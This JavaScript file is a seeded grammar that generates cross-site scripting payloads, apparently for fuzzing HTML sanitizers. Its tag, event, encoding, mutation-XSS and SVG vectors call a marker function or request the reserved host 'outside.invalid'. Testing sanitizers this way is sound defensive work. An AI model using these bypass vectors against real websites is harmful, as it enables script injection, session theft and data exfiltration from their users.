// Generates payloads from a grammar and a seed: texts that run script or send a request if a browser parses them as HTML.

/** A host that doesn't exist. */
export const OUTSIDE = 'outside.invalid';

/**
 * Each call generates a payload: `raw()` HTML, `inline()` on a single line, `address()` as a link target, `drawing()` as an
 * SVG file. `all` lists them; each reports its index in it when it runs.
 */
export function grammar(seed) {
  const random = generator(seed);
  const pick = (list) => list[Math.floor(random() * list.length)];
  const chance = (share) => random() < share;
  const all = [];
  const id = () => all.length;
  const keep = (text) => {
    all.push(text);
    return text;
  };

  const call = () => pick([
    `__ran(${id()})`, `__ran&#40;${id()}&#41;`, `window.__ran(${id()})`, `top.__ran(${id()})`, `parent['__ran'](${id()})`,
    `\\u005f_ran(${id()})`, `self.__ran?.(${id()})`, `(0,__ran)(${id()})`, `fetch('//${OUTSIDE}/${id()}')`,
    `alert(${id()})`, `location='//${OUTSIDE}/${id()}'`, `new(Image)().src='//${OUTSIDE}/${id()}'`,
  ]);
  const outside = () => pick([
    `//${OUTSIDE}/${id()}`, `http://${OUTSIDE}/${id()}`, `https://${OUTSIDE}/${id()}`, `\\\\${OUTSIDE}\\${id()}`,
    `/\\${OUTSIDE}/${id()}`, `ht\ntp://${OUTSIDE}/${id()}`, `&#104;ttp://${OUTSIDE}/${id()}`, ` //${OUTSIDE}/${id()}`,
  ]);
  const script = () => pick(['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', 'java&#10;script:',
    'java&Tab;script:', '&#106;avascript:', '&#x6A;avascript&colon;', '\u0001javascript:', ' javascript:', 'javascript&#58;',
    'data:text/html,<script>', 'data:text/html;charset=utf-7,', 'data:image/svg+xml,<svg onload=', 'vbscript:',
    'view-source:javascript:', 'blob:javascript:', 'feed:javascript:']) + call();
  const cased = (name) => (chance(0.8) ? name : [...name].map((c) => (chance(0.5) ? c.toUpperCase() : c)).join(''));
  const space = () => pick([' ', ' ', ' ', '\n', '\t', '/', '\f', ' / ', '\u000b ']);
  const quoted = (value) => pick([`"${value}"`, `"${value}"`, `'${value}'`, value.replaceAll(/\s/g, ''), `\`${value}\``, `"${value}`]);
  const equals = () => pick(['=', '=', '=', ' = ', '\n=\t']);
  const attribute = (name, value) => `${space()}${cased(name)}${equals()}${quoted(value)}`;

  const event = () => attribute(pick(EVENTS), call());
  const url = (name) => attribute(name, chance(0.5) ? script() : outside());
  const style = () => attribute('style', pick([
    `background:url(${outside()})`, `background-image:url("${outside()}")`, `width:expression(${call()})`,
    `-moz-binding:url(${outside()})`, `behavior:url(${outside()})`, `list-style:url('${script()}')`, `content:url(${outside()})`,
    `animation-name:x;background:image-set('${outside()}' 1x)`, `position:fixed;inset:0;background:u\\72l(${outside()})`,
  ]));
  const anything = () => pick([event, event, () => url(pick(URLS)), style,
    () => attribute(pick(['class', 'id', 'title', 'name', 'is', 'slot', 'nonce', 'popover', 'accesskey', 'contenteditable']), call())])();

  const open = (name, ...attributes) => `<${cased(name)}${attributes.join('')}${pick(['>', '>', '>', '/>', ' >', '//>', ''])}`;
  const element = () => open(pick(TAGS), anything(), chance(0.5) ? anything() : '', chance(0.2) ? ' autofocus tabindex=1' : '');
  const form = [
    element, element, element, element,
    () => `${open('script')}${call()}</script${pick(['>', ' >', '\n>', '/>'])}`,
    () => `${open('script', attribute('src', outside()))}</script>`,
    () => `<scr<script>ipt>${call()}</scr</script>ipt>`,
    () => `<<script>${call()}//<</script>`,
    () => `<${pick(['svg', 'math'])}><${pick(['script', 'style', 'mtext', 'desc', 'title', 'foreignObject', 'annotation-xml encoding=text/html'])}>${element()}`,
    () => `<math><mtext><table><mglyph><style><!--</style><img src=x onerror="${call()}">`,
    () => `<svg><style><a title="</style><img src=x onerror=${call()}>">`,
    () => `<${pick(['noscript', 'noembed', 'noframes', 'xmp', 'iframe', 'textarea', 'title', 'template', 'select'])}><p title="</${pick(['noscript', 'xmp', 'textarea', 'title', 'template', 'iframe'])}>${element()}">`,
    () => `<svg><a${attribute(pick(['href', 'xlink:href']), script())}><text y=20>x</text></a></svg>`,
    () => `<svg><${pick(['set', 'animate'])} attributeName=href ${pick(['to', 'values'])}="${script()}" /></svg>`,
    () => `<svg><use${attribute('href', outside())}></use><image${attribute('href', outside())}></image></svg>`,
    () => `<a${url('href')}>x</a>`,
    () => `<form${url('action')}><button${url('formaction')}>x</button><input type=image${url('src')}></form>`,
    () => `<meta http-equiv=refresh content="0;url=${chance(0.5) ? script() : outside()}">`,
    () => `<base href="${outside()}"><link rel=${pick(['stylesheet', 'preload', 'prefetch', 'icon', 'dns-prefetch'])} as=image href="${outside()}">`,
    () => `<style>@import '${outside()}';*{background:url(${outside()})}</style>`,
    () => `<img srcset="${outside()} 1x, ${outside()} 2x" src=x><picture><source srcset="${outside()}"><img src=x></picture>`,
    () => `<video${url('src')}${url('poster')} autoplay${event()}><source${url('src')}${event()}><track${url('src')} default></video>`,
    () => `<iframe${pick([url('src'), attribute('srcdoc', `<script>parent.${call()}</script>`)])}${event()}></iframe>`,
    () => `<object${url('data')}><embed${url('src')}></object>`,
    () => `<details open${event()}><summary${event()}>x</summary></details>`,
    () => `"${anything()} x="`, () => `'${anything()} x='`, () => `">${element()}`, () => `'>${element()}`, () => `\`>${element()}`,
    () => `</${pick(['title', 'textarea', 'style', 'script', 'main', 'a', 'h1', 'svg', 'template', 'p', 'option'])}>${element()}`,
    () => `--!>${element()}<!-- x -->`, () => `]]>${element()}`, () => `<!-->${element()}-->`, () => `<?x ${element()} ?>`,
    () => `&lt;img src=x onerror=${call()}&gt;`, () => `&#60;img src=x onerror=${call()}&#62;`,
    () => `&amp;lt;script&amp;gt;${call()}`, () => `\u{10fffd}${pick(['P', 'L0', 'C0', 'menu1'])}\u{10fffd}${element()}`,
    () => `\${${call()}}{{${call()}}}{% ${call()} %}`, () => `\\x3cimg src=x onerror=${call()}\\x3e`,
    () => `\u2028${element()}\u001f<img src=x onerror=${call()}>`,
  ];
  const raw = () => keep(pick(form)());
  const inline = () => keep(pick(form)().replaceAll(/[\n\f\r\u000b\u001f\u2028]/g, ' '));
  const address = () => keep((chance(0.6) ? script() : outside()).replaceAll(/[\n\u0001]/g, ''));
  const drawing = () => {
    const piece = pick([element, event, style, () => `<a xlink:href="${script()}"><rect width="9" height="9"/></a>`,
      () => `<script>${call()}</script>`, () => `<x:script xmlns:x="http://www.w3.org/2000/svg">${call()}</x:script>`,
      () => `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${call()}"/></body></foreignObject>`,
      () => `<image href="${outside()}"/>`, () => `<style>@import url(${outside()});</style>`, () => `<use href="${outside()}#a"/>`,
      () => `<style>rect{fill:url(${outside()}#a)}</style><rect/>`, () => `<g ${pick(EVENTS)}="${call()}"/>`,
      () => `<set attributeName="onload" to="${call()}"/>`, () => `<h:script xmlns:h="http://www.w3.org/1999/xhtml">${call()}</h:script>`,
      () => `<text>${call()}</text>`, () => `<g id="a"/><use href="#a"/>`])();
    const head = pick(['', '<?xml version="1.0"?>', `<!DOCTYPE svg [<!ENTITY x "${call().replaceAll('"', '')}">]>`,
      `<?xml-stylesheet href="${outside()}" type="text/css"?>`, '<!DOCTYPE svg>', '\ufeff', '<!-- x -->']);
    const onRoot = chance(0.2) ? ` ${pick(EVENTS)}="${call()}"` : '';
    return keep(`${head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"${onRoot}>${piece}</svg>`);
  };
  return { all, raw, inline, address, drawing, pick };
}

const EVENTS = ['onload', 'onerror', 'onclick', 'onmouseover', 'onmouseenter', 'onfocus', 'onfocusin', 'onpointerenter', 'onkeydown',
  'ontoggle', 'onanimationstart', 'onbegin', 'onscroll', 'onwheel', 'oninput', 'onchange', 'onstart', 'oncopy', 'oncontextmenu',
  'onbeforematch', 'onloadstart', 'onpageshow', 'ontransitionend', 'ondblclick', 'ondragstart'];
const URLS = ['href', 'src', 'srcset', 'action', 'formaction', 'poster', 'data', 'xlink:href', 'background', 'ping', 'cite',
  'longdesc', 'srcdoc', 'manifest', 'lowsrc', 'dynsrc', 'usemap', 'profile', 'classid', 'codebase', 'icon'];
const TAGS = ['img', 'svg', 'a', 'b', 'p', 'div', 'span', 'iframe', 'object', 'embed', 'video', 'audio', 'source', 'track', 'body',
  'html', 'input', 'button', 'select', 'textarea', 'details', 'summary', 'marquee', 'link', 'meta', 'base', 'style', 'math', 'table',
  'td', 'image', 'use', 'frameset', 'frame', 'portal', 'dialog', 'form', 'keygen', 'isindex', 'x-y', 'ul', 'li', 'kbd', 'mark',
  'time', 'figure', 'abbr', 'label', 'map', 'area', 'picture', 'template', 'slot', 'animate', 'discard', 'font', 'center', 'bgsound'];

/** A seeded random generator of numbers from 0 to 1 (mulberry32). */
function generator(seed) {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
